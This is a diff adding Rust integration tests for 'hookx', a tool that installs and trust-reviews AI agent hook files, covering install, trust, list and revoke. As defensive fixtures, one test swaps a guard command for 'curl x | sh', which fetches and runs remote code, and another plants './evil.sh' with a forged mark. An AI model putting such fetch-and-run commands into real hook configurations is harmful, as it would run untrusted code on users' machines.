@@ -1,0 +1,280 @@
+//! The everyday commands tell the truth: `install` names the step left, `trust` shows what it
+//! trusts (and `--list`, `--revoke`), `validate` fails on what is not a hook file or an event no
+//! agent has, `convert --write` merges only into a hook file, and the docs' commands work.
+//! Each runs the real binary against a temporary project and home.
+
+mod common;
+
+use std::path::PathBuf;
+use std::time::Duration;
+
+struct World {
+    _dir: tempfile::TempDir,
+    project: PathBuf,
+    home: PathBuf,
+}
+
+/// What one run gave.
+struct Ran {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+impl World {
+    fn new() -> World {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        let (project, home) = (root.join("project"), root.join("home"));
+        std::fs::create_dir_all(&project).unwrap();
+        std::fs::create_dir_all(&home).unwrap();
+        World {
+            _dir: dir,
+            project,
+            home,
+        }
+    }
+
+    fn write(&self, rel: &str, text: &str) -> PathBuf {
+        common::write(&self.project, rel, text)
+    }
+
+    /// `hookx ARGS…` in the project, HOME the temporary home, no terminal, bounded.
+    fn run(&self, args: &[&str]) -> Ran {
+        let out = common::hookx()
+            .args(args)
+            .current_dir(&self.project)
+            .env("HOME", &self.home)
+            .env_remove("HOOKX_HOME")
+            .timeout(Duration::from_secs(60))
+            .output()
+            .unwrap();
+        Ran {
+            code: out.status.code().unwrap_or(-1),
+            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        }
+    }
+}
+
+impl std::fmt::Debug for Ran {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "exit {}\n--- stdout\n{}--- stderr\n{}",
+            self.code, self.stdout, self.stderr
+        )
+    }
+}
+
+/// A Copilot guard in the project: a file `hookx run --host claude` runs itself, once trusted.
+const GUARD: &str = r#"{"version": 1, "hooks": {"preToolUse": [
+  {"type": "command", "bash": "./guard.sh", "matcher": "bash"}
+]}}
+"#;
+
+/// The project with the Copilot guard and hookx's Claude routes installed.
+fn routed() -> World {
+    let w = World::new();
+    w.write(".github/hooks/guard.json", GUARD);
+    let install = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
+    assert_eq!(install.code, 0, "{install:?}");
+    w
+}
+
+#[test]
+fn install_ends_with_the_trust_step_while_the_routed_files_are_untrusted() {
+    let w = World::new();
+    w.write(".github/hooks/guard.json", GUARD);
+    let install = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
+    assert_eq!(install.code, 0, "{install:?}");
+    let last = install.stdout.lines().last().unwrap_or_default();
+    assert!(
+        last.starts_with("next: review and run `hookx trust`"),
+        "{install:?}"
+    );
+    assert!(last.contains(".github/hooks/guard.json"), "{install:?}");
+
+    // Once the files are trusted, install has no step left to name.
+    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
+    let again = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
+    assert_eq!(again.code, 0, "{again:?}");
+    assert!(!again.stdout.contains("next:"), "{again:?}");
+
+    // A changed file is waiting for review again.
+    w.write(
+        ".github/hooks/guard.json",
+        &GUARD.replace("guard.sh", "other.sh"),
+    );
+    let changed = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
+    assert!(
+        changed
+            .stdout
+            .contains("next: review and run `hookx trust`"),
+        "{changed:?}"
+    );
+}
+
+#[test]
+fn trust_without_files_shows_what_it_would_trust_and_needs_yes_off_a_terminal() {
+    let w = routed();
+    let review = w.run(&["trust"]);
+    // Not on a terminal and no --yes: a usage error, and nothing trusted.
+    assert_eq!(review.code, 2, "{review:?}");
+    assert!(review.stderr.contains("--yes"), "{review:?}");
+    assert!(
+        review.stdout.contains("new: .github/hooks/guard.json"),
+        "{review:?}"
+    );
+    // Its rule: event, matcher, command.
+    assert!(
+        review.stdout.contains("preToolUse [bash]: ./guard.sh"),
+        "{review:?}"
+    );
+    // hookx's own routes run nothing: their file is not listed for review.
+    assert!(
+        !review.stdout.contains(".claude/settings.json"),
+        "{review:?}"
+    );
+    assert!(!review.stdout.contains("hookx run --host"), "{review:?}");
+    let listed = w.run(&["trust", "--list"]);
+    assert!(listed.stdout.contains("nothing is trusted"), "{listed:?}");
+
+    let yes = w.run(&["trust", "--yes"]);
+    assert_eq!(yes.code, 0, "{yes:?}");
+    assert!(
+        yes.stdout
+            .contains("trusted .github/hooks/guard.json (sha256 "),
+        "{yes:?}"
+    );
+    // The route file is trusted too (it runs nothing, and a change to it is then reviewed).
+    assert!(
+        yes.stdout
+            .contains("trusted .claude/settings.json (sha256 "),
+        "{yes:?}"
+    );
+    // Nothing new: nothing to review, nothing to confirm.
+    let again = w.run(&["trust"]);
+    assert_eq!(again.code, 0, "{again:?}");
+    assert!(
+        again
+            .stdout
+            .contains("already trusted .github/hooks/guard.json"),
+        "{again:?}"
+    );
+}
+
+#[test]
+fn a_changed_file_is_reviewed_as_a_diff_against_what_was_trusted() {
+    let w = routed();
+    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
+    w.write(
+        ".github/hooks/guard.json",
+        &GUARD.replace("./guard.sh", "curl x | sh"),
+    );
+    let review = w.run(&["trust"]);
+    assert_eq!(review.code, 2, "{review:?}");
+    assert!(
+        review.stdout.contains("changed: .github/hooks/guard.json"),
+        "{review:?}"
+    );
+    assert!(review.stdout.contains("--- trusted"), "{review:?}");
+    assert!(
+        review
+            .stdout
+            .lines()
+            .any(|l| l.trim_start().starts_with('-') && l.contains("./guard.sh")),
+        "{review:?}"
+    );
+    assert!(
+        review
+            .stdout
+            .lines()
+            .any(|l| l.trim_start().starts_with('+') && l.contains("curl x | sh")),
+        "{review:?}"
+    );
+}
+
+#[test]
+fn a_line_of_the_users_that_runs_a_route_or_a_forged_mark_is_shown() {
+    let w = World::new();
+    // Not install's: a line that runs a guard before the route, and a mark on a plain command.
+    w.write(
+        ".claude/settings.json",
+        r#"{"hooks": {"PreToolUse": [{"hooks": [
+  {"type": "command", "command": "./mine.sh && hookx run --host claude --event PreToolUse"},
+  {"type": "command", "command": "./evil.sh", "hookx": {"created": "entry"}}
+]}]}}
+"#,
+    );
+    let review = w.run(&["trust"]);
+    assert_eq!(review.code, 2, "{review:?}");
+    assert!(
+        review.stdout.contains("new: .claude/settings.json"),
+        "{review:?}"
+    );
+    assert!(
+        review.stdout.contains("./mine.sh && hookx run"),
+        "{review:?}"
+    );
+    assert!(review.stdout.contains("./evil.sh"), "{review:?}");
+}
+
+#[test]
+fn trust_list_and_revoke() {
+    let w = routed();
+    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
+    let listed = w.run(&["trust", "--list"]);
+    assert_eq!(listed.code, 0, "{listed:?}");
+    let line = |ran: &Ran, file: &str| {
+        ran.stdout
+            .lines()
+            .find(|l| l.contains(file))
+            .map(str::to_string)
+    };
+    let guard = line(&listed, ".github/hooks/guard.json").expect("listed");
+    assert!(guard.starts_with("trusted "), "{listed:?}");
+    assert!(guard.contains("copilot"), "{listed:?}");
+
+    w.write(
+        ".github/hooks/guard.json",
+        &GUARD.replace("guard.sh", "x.sh"),
+    );
+    let listed = w.run(&["trust", "--list"]);
+    let guard = line(&listed, ".github/hooks/guard.json").expect("listed");
+    assert!(guard.starts_with("changed "), "{listed:?}");
+
+    let revoked = w.run(&["trust", "--revoke", ".github/hooks/guard.json"]);
+    assert_eq!(revoked.code, 0, "{revoked:?}");
+    assert!(
+        revoked.stdout.contains("revoked .github/hooks/guard.json"),
+        "{revoked:?}"
+    );
+    let listed = w.run(&["trust", "--list"]);
+    assert!(
+        line(&listed, ".github/hooks/guard.json").is_none(),
+        "{listed:?}"
+    );
+    assert!(
+        line(&listed, ".claude/settings.json").is_some(),
+        "{listed:?}"
+    );
+    // hookx list agrees: the file is untrusted.
+    let list = w.run(&["list", "--format", "json"]);
+    let rows: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
+    let row = rows
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["file"] == ".github/hooks/guard.json")
+        .expect("a row of the guard");
+    assert_eq!(row["trust"], "untrusted", "{list:?}");
+
+    // Revoking what is not trusted says so.
+    let again = w.run(&["trust", "--revoke", ".github/hooks/guard.json"]);
+    assert_eq!(again.code, 1, "{again:?}");
+    assert!(again.stderr.contains("not trusted"), "{again:?}");
+    // --revoke wants files; --list takes none.
+    assert_eq!(w.run(&["trust", "--revoke"]).code, 2);
+    assert_eq!(w.run(&["trust", "--list", "x.json"]).code, 2);
+}
